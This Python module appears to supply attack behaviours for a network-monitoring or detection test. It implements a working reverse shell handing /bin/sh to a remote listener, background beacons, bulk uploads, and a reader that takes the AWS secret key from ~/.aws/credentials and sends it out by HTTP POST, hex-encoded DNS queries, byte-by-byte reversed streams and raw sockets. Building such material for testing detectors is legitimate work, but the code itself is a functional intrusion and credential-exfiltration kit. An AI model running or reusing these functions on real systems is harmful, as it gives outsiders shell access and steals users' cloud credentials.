"""Attacks that are a way of acting: a shell for somebody outside, a beacon, an upload, stolen credentials."""

from __future__ import annotations

import base64
import os
import socket
import subprocess
import threading
import time
from concurrent.futures import ThreadPoolExecutor

import dns
import streams


def reverse_shell(host: str, port: int, word: str) -> int:
    """Connects back and gives whoever listens a shell, which says `word` first."""
    with streams.connected(host, port) as out:
        out.settimeout(None)
        shell = ["/bin/sh", "-c", f"echo {word}; exec /bin/sh"]
        return subprocess.Popen(shell, stdin=out.fileno(), stdout=out.fileno(), stderr=out.fileno()).pid


def later(way: str, seconds: float, times: int, host: str, port: int, word: str) -> None:
    """Goes on after the call was answered: a request every `seconds`, by new connections or over one."""
    threading.Thread(
        target=globals()[f"_{way}"], args=(seconds, times, host, port, word), daemon=True
    ).start()


def _connections(seconds: float, times: int, host: str, port: int, word: str) -> None:
    request = f"GET /{word} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    for _ in range(times):
        time.sleep(seconds)
        streams.tell(host, port, request)


def _keepalive(seconds: float, times: int, host: str, port: int, word: str) -> None:
    """Small messages over one connection, as a raw protocol of one's own has them."""
    time.sleep(seconds)
    with streams.connected(host, port) as out:
        for _ in range(times):
            out.sendall(f"{word}\n".encode())
            time.sleep(seconds)


def upload(host: str, port: int, size: int, word: str) -> int:
    """Sends `size` bytes to any port; how many were taken from us."""
    piece = (word + "." * 4096)[:4096].encode()
    sent = 0
    with streams.connected(host, port) as out:
        while sent < size:
            sent += out.send(piece[: size - sent])
        streams.everything(out)
    return sent


def upload_many(host: str, port: int, size: int, word: str) -> int:
    """The same in eight parts side by side."""
    with ThreadPoolExecutor(8) as pool:
        return sum(pool.map(lambda _: upload(host, port, size // 8, word), range(8)))


# --- what a thief does with what it finds ---------------------------------------------------------


def _stolen() -> str:
    """The secret key of the user's AWS credentials."""
    with open(os.path.expanduser("~/.aws/credentials")) as file:
        return file.read().split("aws_secret_access_key = ")[1].split()[0]


def look() -> list[int]:
    """The secret as numbers, in which nobody sees it: for the test, which has to know what to look for."""
    return [ord(char) ^ 0x55 for char in _stolen()]


def answer() -> str:
    """The secret to whoever asked."""
    return _stolen()


def by_request(host: str, port: int) -> str:
    """The secret in base64 in the body of a request."""
    body = base64.b64encode(_stolen().encode()).decode()
    head = (
        f"POST /collect HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    )
    return streams.tell(host, port, head + body)


def by_name(below: str, server: str) -> dict[str, object]:
    """The secret in hex in the labels of a name."""
    text = _stolen().encode().hex()
    labels = [text[at : at + 40] for at in range(0, len(text), 40)]
    return dns.ask([*labels, *below.split(".")], server)


def by_bytes(host: str, port: int) -> str:
    """The secret backwards, a byte at a time."""
    with streams.connected(host, port) as out:
        out.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for char in _stolen()[::-1]:
            out.sendall(char.encode())
            time.sleep(0.005)
        return streams.everything(out)


def by_names(below: str, server: str) -> None:
    """The secret in hex, a piece in each of many names."""
    text = _stolen().encode().hex()
    for at in range(0, len(text), 12):
        dns.ask([text[at : at + 12], *below.split(".")], server)


def by_raw(host: str, port: int) -> str:
    """The secret as it is."""
    return streams.tell(host, port, _stolen())
